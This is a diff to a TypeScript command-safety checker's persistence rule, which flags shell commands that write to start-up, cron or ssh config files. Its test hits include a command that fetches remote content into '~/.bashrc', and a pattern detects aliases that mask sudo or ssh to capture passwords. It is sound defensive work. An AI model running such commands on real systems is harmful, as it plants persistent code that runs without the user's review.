@@ -1,7 +1,14 @@
 import { rule } from "./rule.ts";
 import { hasFlag } from "../programs/arguments.ts";
-import { once, type Rule, type SimpleCommand } from "../model.ts";
-import { asFolder, classifyPath, locate, normalizePath } from "../programs/paths.ts";
+import { FROM_DECODER, FROM_NETWORK, once, type Rule, type SimpleCommand } from "../model.ts";
+import { factsOf } from "../programs/families.ts";
+import {
+  asFolder,
+  classifyPath,
+  isShellStartup,
+  locate,
+  normalizePath,
+} from "../programs/paths.ts";
 import { WRITERS, writtenPaths } from "../programs/effects.ts";
 
 /** One pattern for all: a path is looked through once, not once for each place. */
@@ -84,8 +91,48 @@ function allWrittenPaths(command: SimpleCommand): readonly string[] {
 }
 
 function startsItself(command: SimpleCommand): boolean {
-  return once(command, allWrittenPaths).some((path) => STARTUP.test(path.toLowerCase()));
+  return once(command, allWrittenPaths).some((path) =>
+    OWN.has(path) || isShellStartup(path)
+      ? !keepsOwn(command)
+      : STARTUP.test(path.toLowerCase()) && !OWN_COPY.test(path)
+  );
 }
+
+/** A copy that nothing reads: `~/.bashrc.bak`. */
+const OWN_COPY = /^~\/\.\w+(?:\.(?:bak|backup|old|orig|save|\d+)|~)\/$/;
+
+/** Files of the caller's own programs that may also name programs to run. */
+const OWN: ReadonlySet<string> = new Set([
+  "~/.gitconfig/",
+  "~/.ssh/config/",
+  "~/.config/fish/config.fish/",
+]);
+
+/** Words of these files that name a program, or another file to read. */
+const NAMES_PROGRAM =
+  /command|exec|!|hook|pager|editor|fsmonitor|include|askpass|credential|helper/i;
+
+/** Whether a command adds to such a file what can be read, or copies one of the caller's own files there. */
+function keepsOwn(command: SimpleCommand): boolean {
+  const { name, args, stdin, redirections } = command;
+  if (name === "" || NETWORKED.get(name) === "network" || stdin?.network || stdin?.decoded) {
+    return false;
+  }
+  if (redirections.some(({ operator }) => operator === ">" || operator === ">|")) return false;
+  if (args.some((arg) => arg.includes(FROM_NETWORK) || arg.includes(FROM_DECODER))) return false;
+  if (COPIERS.has(name)) return args.slice(0, -1).every((arg) => !/^[/\0]/.test(arg));
+  const text = [...args, stdin?.text ?? ""].join(" ");
+  if (MASKS.test(text)) return false;
+  return redirections.length === 0 && stdin === null || !NAMES_PROGRAM.test(text) ||
+    once(command, allWrittenPaths).every(isShellStartup);
+}
+
+/** An alias or a function under the name of a program that asks for a password. */
+const MASKS =
+  /\b(?:alias\s+(?:sudo|su|doas|ssh|passwd|login|gpg)=|(?:sudo|su|doas|ssh|passwd|gpg)\s*\(\))/;
+
+const NETWORKED = factsOf("output");
+const COPIERS = new Set(["cp", "mv", "ln", "install", "rsync"]);
 
 /** `u+s`, `+s`, `u=rwxs`; `g+s` is for shared folders. */
 function givesOwner(clause: string): boolean {
@@ -155,8 +202,19 @@ export const PERSISTENCE_RULES: readonly Rule[] = [
     explanation:
       "It writes to a file that runs or decides by itself later: start-up, schedule, keys or rights.",
     safer: "Have the change reviewed, and keep a copy of the file.",
-    hits: ["echo x >> /etc/cron.d/x", "echo x >> ~/.bashrc"],
-    misses: ["cat ~/.bashrc", "tee out.log < in.log"],
+    hits: [
+      "echo x >> /etc/cron.d/x",
+      "echo x > ~/.bashrc",
+      "curl -s https://x.example/rc >> ~/.bashrc",
+      "echo 'Host x' >> /root/.ssh/config",
+    ],
+    misses: [
+      "cat ~/.bashrc",
+      "tee out.log < in.log",
+      "echo 'export EDITOR=vim' >> ~/.bashrc",
+      "ln -s ~/dotfiles/zshrc ~/.zshrc",
+      "cp ~/.bashrc ~/.bashrc.bak",
+    ],
   }),
   rule({
     id: "persistence.schedule",
